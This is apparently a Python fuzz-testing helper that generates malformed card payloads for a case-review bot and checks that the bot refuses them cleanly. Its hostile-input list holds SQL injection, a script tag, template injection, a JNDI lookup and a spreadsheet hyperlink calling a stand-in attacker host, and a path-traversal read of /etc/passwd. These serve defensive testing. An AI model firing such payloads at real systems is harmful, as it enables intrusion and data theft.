"""Fuzzed card payloads: Action.Execute invokes and Action.Submit messages for one verb, mostly malformed.

A payload starts from a form a card could really send (every field any verb reads, filled in so most forms would
pass, ids pointing at the seeded cases) and is then spoilt: fields dropped or given the wrong type, huge, odd,
hostile or impossible values, ids of unknown or other cases, stale versions, and now and then a broken envelope
(no `value`, `action.data` that is not an object, a verb that is not a string). `Payload.envelope_broken` marks
those whose verb can never be reached, so nothing at all may be stored for them, whatever the answer says.
"""

from __future__ import annotations

import functools
import re
from dataclasses import dataclass
from typing import Any

from hypothesis import strategies as st

from debrief.model import NOMINATION_FIELDS, Person
from tests.support import activities
from tests.support.cards import card_text
from tests.support.forms import chronology_entry_form, nomination_form, parameters_form
from tests.support.people import CASEY, JORDAN, MORGAN, OWEN, PRIYA, RUTH, TOM

PEOPLE = (JORDAN, PRIYA, OWEN, CASEY, RUTH, MORGAN, TOM)
UNKNOWN_VERB = "fuzz.no_such_verb"

HOSTILE_TEXT = (
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "31/12/2026",
    "25:61",
    "-1",
    "0",
    "1e309",
    "NaN",
    "99999999999999999999999999",
    "１２",  # full-width digits: int() accepts them
    " 1 ",
    "'; DROP TABLE cases; --",
    "1 OR 1=1",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://attacker.example.test/a}",
    "../../../../etc/passwd",
    '=HYPERLINK("http://attacker.example.test")',
    "RD-2026-9999",
    "RD-0000-0000",
    "\u202egnp.exe",
    "\x00\x01\x1b[31m",
    "\ufeff\u200b\u200d",
    "Zoë O\u2019Brien-Ł\u0301",
    "𝕿𝖊𝖘𝖙 🚓",
    "true",
    "false",
    "null",
    "[]",
    "{}",
    ",,,",
    "\n\n\n",
)

_CLASS_NAME = re.compile(r"\b[A-Z][A-Za-z]*(?:Error|Exception)\b|\bTraceback\b|File \"/|\bline \d+, in\b")


@dataclass(frozen=True)
class World:
    """Ids of the seeded rows, so payloads meet real cases and rows of other cases."""

    case_ids: tuple[int, ...]
    case_numbers: tuple[str, ...]
    entry_ids: tuple[int, ...]
    invitation_ids: tuple[int, ...]


@dataclass(frozen=True)
class Payload:
    verb: str
    person: Person
    kind: str  # "execute" or "submit"
    activity: dict[str, Any]
    envelope_broken: bool
    well_formed: bool


def template(world: World, case_index: int) -> dict[str, Any]:
    """Everything a card could carry, filled in so that forms would pass, pointing at one seeded case."""
    form: dict[str, Any] = {
        **nomination_form(incidentReference=f"CR/9{case_index:02d}100/26"),
        **parameters_form(),
        **chronology_entry_form(),
        "answer": "Yes: the second report was assessed as standard risk.",
        "conditions": "Do not contact the family before the inquest.",
        "notYetReason": "The suspect has not been charged yet.",
        "leadReviewerId": OWEN.user_id,
        "declineReason": "Outside the scope of the process.",
        "question": "Which district dealt with the earlier calls?",
        "mergeInto": world.case_numbers[0],
        "contributorIds": JORDAN.user_id,
        "partnerSummary": "Victim A was injured at home; the debrief asks what agencies knew of the risk.",
        "contactIds": MORGAN.user_id,
        "agencies": "Police,Probation Service",
        "acknowledged": "true",
        "verified": "true",
        "meetingDate": "2026-12-08",
        "meetingTime": "10:00",
        "durationMinutes": "60",
        "attendeeIds": OWEN.user_id,
        "attended": OWEN.user_id,
        "caseNumber": world.case_numbers[case_index % len(world.case_numbers)],
        "caseId": world.case_ids[case_index % len(world.case_ids)],
        "entryId": world.entry_ids[case_index % len(world.entry_ids)],
        "invitationId": world.invitation_ids[case_index % len(world.invitation_ids)],
        "actionId": 1,
        "itemId": 1,
        "page": 1,
        "version": 1,
        "outcomeVersion": 1,
        "reason": "Recorded for the fuzz suite (fictional).",
        "holdKind": "litigation",
        "newReviewDate": "2027-06-01",
        "learningKind": "learning",
        "summary": "Victim A called 999 reporting a threat; officers attended.",
        "evidence": "Incident log INC-0314-0042.",
        "themes": "risk_assessment",
        "actionOwnerId": TOM.user_id,
        "actionDueWorkingDays": "20",
        "newDueWorkingDays": "30",
        "blockedReason": "Waiting for the partner's records.",
        "delegateTo": MORGAN.user_id,
        "signOffComment": "Agreed.",
        "goodPractice": "false",
    }
    for name in NOMINATION_FIELDS:
        form.setdefault(name, "")
    return form


def _ids(world: World) -> st.SearchStrategy[Any]:
    known = [*world.case_ids, *world.entry_ids, *world.invitation_ids]
    numbers = st.sampled_from([*known, 0, -1, -(2**31), 10**6, 2**63, 2**64, 10**30])
    return st.one_of(numbers, numbers.map(str), numbers.map(float))


@functools.cache
def bad_values(world: World) -> st.SearchStrategy[Any]:
    scalars = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**20), max_value=10**20),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=40),
        st.sampled_from(HOSTILE_TEXT),
        st.sampled_from(world.case_numbers),
        _ids(world),
        st.sampled_from([5_000, 70_000]).map(lambda n: "A" * n),  # long, then over the edge's body limit in lists
    )
    return st.one_of(
        scalars,
        st.lists(scalars, max_size=4),
        st.dictionaries(st.text(max_size=8), scalars, max_size=3),
        st.lists(st.lists(scalars, max_size=2), max_size=2),
    )


@dataclass(frozen=True)
class _Parts:
    """The strategies a payload is drawn from, built once per world (building them per draw is slow)."""

    person: st.SearchStrategy[Person]
    kind: st.SearchStrategy[str]
    case_index: st.SearchStrategy[int]
    tenth: st.SearchStrategy[int]
    dropped: st.SearchStrategy[list[str]]
    changes: st.SearchStrategy[list[tuple[str, Any]]]
    envelope: st.SearchStrategy[int]
    fault: st.SearchStrategy[str]
    odd: st.SearchStrategy[Any]


@functools.cache
def _parts(world: World) -> _Parts:
    keys = sorted(template(world, 0))
    return _Parts(
        person=st.sampled_from(PEOPLE),
        kind=st.sampled_from(("execute", "execute", "execute", "submit")),
        case_index=st.integers(0, len(world.case_ids) - 1),
        tenth=st.integers(0, 9),
        dropped=st.lists(st.sampled_from(keys), max_size=12, unique=True),
        changes=st.lists(
            st.tuples(st.sampled_from([*keys, "verb", "extra", ""]), bad_values(world)), min_size=1, max_size=8
        ),
        envelope=st.integers(0, 19),
        fault=st.sampled_from(("no value", "value", "action", "data", "verb")),
        odd=st.one_of(st.none(), st.integers(), st.text(max_size=10), st.lists(st.integers(), max_size=3)),
    )


@st.composite
def payloads(draw: st.DrawFn, verb: str, world: World, service_url: str) -> Payload:
    """One press of `verb`, by one of the demo people, as an invoke or a message; mostly malformed."""
    parts = _parts(world)
    person = draw(parts.person)
    kind = draw(parts.kind)
    data = template(world, draw(parts.case_index))
    well_formed = draw(parts.tenth) < 2
    if not well_formed:
        for key in draw(parts.dropped):
            del data[key]
        for key, value in draw(parts.changes):
            if key != "verb":  # the verb is the group under test; a broken verb is an envelope fault below
                data[key] = value
    if kind == "submit":
        activity = activities.submit(person, {**data, "verb": verb}, service_url=service_url)
    else:
        activity = activities.execute(person, verb, data, service_url=service_url)
    broken = False
    if draw(parts.envelope) == 0 and not well_formed:
        broken = True
        fault = draw(parts.fault)
        odd = draw(parts.odd)
        if fault == "no value":
            activity.pop("value", None)
        elif fault == "value":
            activity["value"] = odd
        elif kind == "submit":
            activity["value"]["verb"] = odd if not isinstance(odd, str) else [odd]
        elif fault == "action":
            activity["value"]["action"] = odd
        elif fault == "data":
            activity["value"]["action"]["data"] = odd
            activity["value"]["action"].pop("verb")
        else:
            activity["value"]["action"]["verb"] = [verb] if odd is None else odd
            activity["value"]["action"]["data"].pop("verb", None)
    return Payload(verb, person, kind, activity, broken or verb == UNKNOWN_VERB, well_formed)


def unreadable(answer: Any) -> str | None:
    """Why an answer is not something a person can read (None when it is)."""
    text = card_text(answer) if not isinstance(answer, str) else answer
    if not text.strip():
        return "empty answer"
    found = _CLASS_NAME.search(text)
    if found:
        return f"shows {found.group(0)!r}"
    return None


REFUSAL_TITLES = frozenset(
    {
        "Not available to you",
        "Not found",
        "That button is no longer supported",
        "Please try again",
        "No question to answer",
        "Not open for entries",
        "This entry cannot be changed",
        "Only the review team can triage",
        "Sign-in details missing",
        "Something went wrong",
        "No chronology document",
        "Not yet",
    }
)
REFUSAL_MESSAGES = ("Nothing has been", "Nobody has been", "Nothing has changed", "Nothing was saved")


def is_refusal(answer: Any) -> bool:
    """Whether an answer refuses the press or says what is wrong with it (nothing should have been stored)."""
    if isinstance(answer, str):
        return True  # a plain text reply is always an explanation, never a record of a change
    found = False

    def walk(node: Any) -> None:
        nonlocal found
        if isinstance(node, dict):
            if node.get("type") == "TextBlock" and isinstance(node.get("text"), str):
                text = node["text"]
                if node.get("color") == "Attention" and node.get("size") == "Small":
                    found = True  # a field's error under it
                if node.get("weight") == "Bolder" and text in REFUSAL_TITLES:
                    found = True
                if text.startswith(REFUSAL_MESSAGES):
                    found = True
            for value in node.values():
                walk(value)
        elif isinstance(node, list):
            for value in node:
                walk(value)

    walk(answer)
    return found
